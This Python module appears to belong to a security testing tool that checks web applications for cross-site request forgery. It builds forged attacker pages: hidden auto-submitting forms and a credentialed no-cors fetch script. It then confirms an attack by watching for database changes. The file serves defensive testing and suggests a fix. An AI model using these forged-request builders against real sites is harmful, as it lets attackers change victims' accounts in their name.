"""Requests that another site makes a visitor's browser send, with the visitor's session.

Oracle: what the request changes has changed in the site's database. A status code proves nothing:
a site may change something and answer 403, or answer 200 and refuse.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from html import escape
from typing import TYPE_CHECKING
from urllib.parse import urlencode

from ringfence.prove.discover.filling import filled, marked_fields
from ringfence.prove.stage import (
    Attack,
    Outcome,
    Result,
    Target,
    new_marker,
    one_by_one,
    path_of,
    stopped_by_answer,
)

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Survey
    from ringfence.prove.stage import FormLike, Stage

__all__ = ["FIX", "attack", "changing_forms", "form_of", "uses_form"]

FIX = "switch on the csrf ring; let no view be exempt that changes something for a session"

#: Sends the forged request of one target, which holds the marker in each field of free text.
Send = Callable[["Stage", Target, str], None]


def changing_forms(survey: Survey) -> tuple[Target, ...] | str:
    """Return the forms whose use changes something for a session; or why there is none."""
    posts = [found for found in survey.forms if found.form.method == "post"]
    targets = [
        Target(
            path_of(found.form.action),
            f"POST {path_of(found.form.action)}",
            visitor=found.visitor,
            form=found.form,
            place=found.place,
        )
        for found in posts
        if found.changes and found.visitor != "anonymous"
    ]
    if not targets:
        tried = ", ".join(sorted({path_of(found.form.action) for found in posts})) or "none found"
        return f"no POST form whose use changes the database was found (tried: {tried})"
    return tuple({target.label: target for target in targets}.values())


def form_of(target: Target) -> FormLike:
    """Return the form of a target that :func:`changing_forms` gave."""
    if target.form is None:
        raise ValueError(f"{target.label} names no form.")
    return target.form


def markup_of(target: Target, marker: str, enctype: str) -> str:
    """Return the form as it stands on the attacker's page."""
    form = form_of(target)
    inputs = "".join(
        f'<input type="hidden" name="{escape(name)}" value="{escape(value)}">'
        for name, value in filled(form, marker)
    )
    return f"""<!doctype html><title>You have won</title>
        <form method="post" action="{escape(form.action)}" enctype="{escape(enctype)}">{inputs}
        </form>"""


def by_form(enctype: str | None = None, *, by: str = "attacker") -> Send:
    """Return what sends a form from a site of the attacker's, in its own encoding or in another."""

    def send(stage: Stage, target: Target, marker: str) -> None:
        page = markup_of(target, marker, enctype or form_of(target).enctype)
        stage.send(stage.serve(page, by=by))

    return send


def by_fetch(stage: Stage, target: Target, marker: str) -> None:
    """Send the form's fields by a script of the attacker's that wants no answer."""
    script_sends(
        stage,
        form_of(target).action,
        urlencode(filled(form_of(target), marker)),
        "application/x-www-form-urlencoded",
    )


def script_sends(stage: Stage, address: str, body: str, kind: str) -> None:
    """Let a script of the attacker's post ``body`` in the visitor's name, without asking first.

    ``kind`` is one of the three content types that need no leave (Fetch, section 2.2.2,
    CORS-safelisted request-header).
    """
    name = new_marker()
    page = f"""<!doctype html><title>Cats</title><script>
        const done = () => fetch({json.dumps(stage.collect_path(name))},
            {{method: "POST", body: "done"}});
        fetch({_literal(address)}, {{method: "POST", mode: "no-cors", credentials: "include",
            headers: {{"Content-Type": {json.dumps(kind)}}}, body: {_literal(body)}}})
            .then(done, done);
        </script>"""
    stage.visit(stage.serve(page, name=name))
    stage.collected(name)


def _literal(text: str) -> str:
    return json.dumps(text).replace("<", "\\u003c")


def attack(
    name: str,
    *,
    title: str,
    send: Send,
    stopped_by: tuple[str, ...] = ("csrf", "transport"),
) -> Attack:
    """Return the attack that forges the site's own forms by ``send``."""

    def strike(stage: Stage, target: Target) -> Result:
        form, marker = form_of(target), new_marker()
        marked = bool(marked_fields(form, marker))
        before = "" if marked else stage.digest()
        mark = stage.mark()
        send(stage, target, marker)
        exchange = stage.request_since(mark, "POST", target.path)
        where = stage.stored(marker) if marked else None
        if where is not None:
            return Result(
                Outcome.SUCCEEDED, "changed", f"{where} holds what the attacker's page sent"
            )
        if not marked and stage.digest() != before:
            return Result(Outcome.SUCCEEDED, "changed", "the database changed")
        return stopped_by_answer(exchange, "nothing changed")

    return Attack(
        name=name,
        title=title,
        cwe="CWE-352",
        stopped_by=stopped_by,
        find=changing_forms,
        strike=one_by_one(strike),
        use=uses_form,
        fix=FIX,
        changes=True,
    )


def uses_form(stage: Stage, target: Target) -> str | None:
    """Let the visitor use the form himself, and say what failed of it."""
    form, marker = form_of(target), new_marker()
    values = marked_fields(form, marker)
    stage.become(target.visitor)
    before = "" if values else stage.digest()
    visit = stage.submit(form, values)
    changed = stage.stored(marker) is not None if values else stage.digest() != before
    if changed:
        return None
    return f"the site's own form changes nothing either ({visit.error or visit.status})"
